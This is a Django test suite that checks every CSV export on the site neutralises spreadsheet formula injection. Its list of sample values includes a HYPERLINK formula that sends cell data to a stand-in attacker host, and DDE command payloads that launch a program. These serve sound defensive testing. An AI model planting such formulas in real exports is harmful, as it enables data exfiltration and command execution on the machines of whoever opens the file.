"""CSV exports never hand a spreadsheet a formula: cells starting with =, +, -, @, a tab or a
carriage return are prefixed with an apostrophe (common.csvsafe), in every CSV export."""

import csv
import io

import pytest
from django.urls import reverse

from camp.models import Grade
from common.csvsafe import safe_cell
from events.models import Answer, Event, Registration
from hackathon.models import Direction, TaskSet, Track
from judging.models import Direction as ContestDirection
from judging.models import Registration as ContestRegistration
from judging.models import Submission as ContestEntry
from tests.events.world import add_events
from tests.judging.world import add_judging

from .test_permission_matrix import all_routes
from .world import build_world

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")

# Every CSV the site serves: (route, kwargs from the world, role that may download it).
CSV_EXPORTS = {
    "hackathon:board_csv": (lambda w: {"number": w.edition.number}, "anonymous"),
    "hackathon:set_board_csv": (lambda w: {"slug": w.task_set.slug}, "anonymous"),
    "hackathon:progress_csv": (lambda w: {"number": w.edition.number}, "anonymous"),
    "hackathon:set_progress_csv": (
        lambda w: {"slug": TaskSet.main_of(w.edition).slug},
        "anonymous",
    ),
    "hackathon:results_csv": (lambda w: {"number": w.published.number}, "anonymous"),
    "hackathon:set_results_csv": (lambda w: {"slug": w.published_set.slug}, "anonymous"),
    "camp:grades_csv": (lambda w: {"cohort": w.cohort.slug}, "staff"),
    "events:registrations_csv": (lambda w: {"slug": w.event.slug}, "staff"),
    "judging:results_csv": (lambda w: {"slug": w.jd_published.slug}, "anonymous"),
}


@pytest.mark.parametrize("value", [*FORMULAS, "=", "@", "-", "+"])
def test_safe_cell_prefixes_formulas(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "plain", "1.5", "'=already", " =space", "中文", None, 3])
def test_safe_cell_leaves_other_values(value):
    assert safe_cell(value) == ("" if value is None else str(value))


def test_every_csv_route_is_checked_here():
    csv_routes = {key for key, pattern, _ns in all_routes() if key and ".csv" in pattern}
    assert csv_routes == set(CSV_EXPORTS), "a new CSV export: add it to CSV_EXPORTS"


@pytest.fixture
def hostile_world(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    world = add_judging(add_events(build_world()))
    formulas = iter(FORMULAS * 4)
    Track.objects.filter(edition=world.edition).update(name=next(formulas))
    Direction.objects.filter(track__edition=world.edition).update(name=next(formulas))
    for task in [*world.tasks, *world.task_set.tasks.all()]:
        task.title = next(formulas)
        task.save()
    world.claim.team_name = next(formulas)
    world.claim.save()
    for role in ("contributor", "mentee", "other_mentee", "mentor"):
        person = world.persons[role]
        person.name = next(formulas)
        person.save()
    Grade.objects.create(mentorship=world.mentorship, level=Grade.Level.EXCELLENT)
    Event.objects.filter(pk=world.event.pk).update(title=next(formulas))
    Registration.objects.filter(event=world.event).update(name=next(formulas))
    Answer.objects.filter(registration__event=world.event).update(value=next(formulas))
    published = world.jd_published
    ContestDirection.objects.filter(contest=published).update(name=next(formulas))
    ContestRegistration.objects.filter(contest=published).update(name=next(formulas))
    ContestEntry.objects.filter(contest=published).update(
        title=next(formulas), repository_url=next(formulas)
    )
    return world


@pytest.mark.parametrize("route", list(CSV_EXPORTS))
def test_csv_exports_neutralise_formulas(hostile_world, client, route):
    kwargs, role = CSV_EXPORTS[route]
    if role != "anonymous":
        client.force_login(hostile_world.users[role])
    response = client.get(reverse(route, kwargs=kwargs(hostile_world)))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells
    dangerous = [cell for cell in cells if cell.startswith(DANGEROUS_START)]
    assert not dangerous, dangerous
    # The hostile values are there, shown as text.
    assert any(cell.startswith("'") and cell[1:] in FORMULAS for cell in cells), cells
